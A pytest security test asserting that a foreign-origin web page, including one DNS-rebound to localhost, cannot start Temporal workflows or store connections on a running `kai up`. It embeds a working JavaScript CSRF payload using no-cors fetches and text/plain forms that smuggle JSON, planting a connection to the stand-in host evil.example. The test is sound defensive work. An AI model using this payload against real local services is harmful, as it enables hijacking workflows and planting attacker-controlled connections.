"""What a web page of another origin can do to a running `kai up`: nothing."""

import asyncio
import contextlib
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
from temporalio.api.workflowservice.v1 import ListActivityExecutionsRequest

from kai_flow.connections.store import ConnectionStore
from kai_flow.runtime.ports import free_port
from kai_flow.settings import load_settings
from kai_flow.temporal.client import connect
from tests.browser import chromium
from tests.integration.command import Kai, kai_in

ATTACKER = "evil.example"
QUEUE = "kai-agent-queue"

# Temporal's HTTP API takes these from a form or a no-cors fetch, neither of which asks first.
WORKFLOW = {
    "workflowType": {"name": "KaiChatWorkflow"},
    "taskQueue": {"name": QUEUE},
    "input": [{"prompt": "x", "connection_id": "koperasi"}],
}
ACTIVITY = {
    "activityType": {"name": "store_connection"},
    "taskQueue": {"name": QUEUE},
    "startToCloseTimeout": "60s",
    "input": ["evil", "postgresql://evil.example/db", "evil"],
}

# Everything a page may send without being asked for leave, to every port; what it could read.
ATTACK = """
async ([hosts, ports, bodies]) => {
    const read = [];
    const sendForm = (url, text) => {
        const frame = document.createElement("iframe");
        frame.name = "frame" + Math.random();
        const form = document.createElement("form");
        Object.assign(form, {method: "POST", action: url, target: frame.name});
        form.enctype = "text/plain";
        const field = document.createElement("input");
        // a form of this type sends name=value: the value closes the JSON that the name begins
        field.name = text.slice(0, -1) + ', "identity": "';
        field.value = '"}';
        form.append(field);
        document.body.append(frame, form);
        form.submit();
    };
    const one = async (host, port) => {
        const url = path => `http://${host}:${port}${path}`;
        const api = (kind, id) => `/api/v1/namespaces/default/${kind}/${id}-${port}-${host}`;
        const ask = (path, options) =>
            fetch(url(path), {signal: AbortSignal.timeout(5000), ...options});
        for (const path of ["/", "/api/v1/namespaces/default/workflows", "/healthz"]) {
            try { await (await ask(path, {})).text(); read.push(url(path)); } catch {}
        }
        for (const [kind, body] of Object.entries(bodies)) {
            const options = {method: "POST", mode: "no-cors", body: JSON.stringify(body)};
            try { await ask(api(kind, "fetch"), options); } catch {}
            sendForm(url(api(kind, "form")), JSON.stringify(body));
        }
    };
    await Promise.all(hosts.flatMap(host => ports.map(port => one(host, port))));
    await new Promise(resolve => setTimeout(resolve, 2000));
    return read;
}
"""


@pytest.fixture
def up(tmp_path: Path, own_logging: None) -> Iterator[tuple[Kai, list[int]]]:
    """A `kai up` with its default settings but for the ports, and every port that it listens on."""
    kai = kai_in(tmp_path / "home")
    with kai.up(TEMPORAL_ADDRESS=f"127.0.0.1:{free_port()}") as process:
        family = [psutil.Process(process.pid)]
        family += family[0].children(recursive=True)
        sockets = [socket for one in family for socket in one.net_connections("inet")]
        places = {one.laddr for one in sockets if one.status == psutil.CONN_LISTEN}
        assert {place.ip for place in places} == {"127.0.0.1"}
        yield kai, sorted(place.port for place in places)


class _Page(http.server.BaseHTTPRequestHandler):
    """An empty page."""

    def do_GET(self) -> None:
        """Answer it to everything."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title><body></body>")

    def log_message(self, *arguments: Any) -> None:
        """Say nothing."""


@contextlib.contextmanager
def foreign_site() -> Iterator[int]:
    """A web server of somebody else; yields its port."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Page) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


async def begun(address: str) -> list[str]:
    """The workflows and activities that a server has been asked for."""
    client = await connect(address)
    workflows = [workflow.id async for workflow in client.list_workflows()]
    answer = await client.workflow_service.list_activity_executions(
        ListActivityExecutionsRequest(namespace="default")
    )
    await asyncio.sleep(0.05)  # Temporal can crash at exit without this pause (sdk-python#300)
    return workflows + [activity.activity_id for activity in answer.executions]


@pytest.mark.browser
@pytest.mark.timeout(240)  # nine ports, each asked in every way that a page has
def test_a_page_of_another_origin_gets_nowhere(up: tuple[Kai, list[int]]) -> None:
    """A page, also one whose name leads to this machine, starts, stores and reads nothing."""
    kai, ports = up
    assert len(ports) >= 4, "bridge, worker, and Temporal's own"
    bodies = {"workflows": WORKFLOW, "activities": ACTIVITY}
    with (
        foreign_site() as port,
        chromium(f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1") as window,
    ):
        page = window.new_page()
        page.goto(f"http://{ATTACKER}:{port}/")
        assert page.evaluate(ATTACK, [["127.0.0.1", "localhost", ATTACKER], ports, bodies]) == []
        pages = []  # as a page does whose name has come to mean this machine; all at once
        for target in ports:
            pages.append(window.new_page())
            with contextlib.suppress(Exception):
                pages[-1].goto(f"http://{ATTACKER}:{target}/", timeout=5000)
            with contextlib.suppress(Exception):
                begin = f"given => {{ window.attack = ({ATTACK})(given); }}"
                pages[-1].evaluate(begin, [[ATTACKER], [target], bodies])
        for page in pages:
            with contextlib.suppress(Exception):
                page.evaluate("() => window.attack")
    assert asyncio.run(begun(kai.state()["temporal"])) == []
    store = ConnectionStore.of(load_settings(kai.environ))
    assert "evil" not in [one.id for one in store.all()]
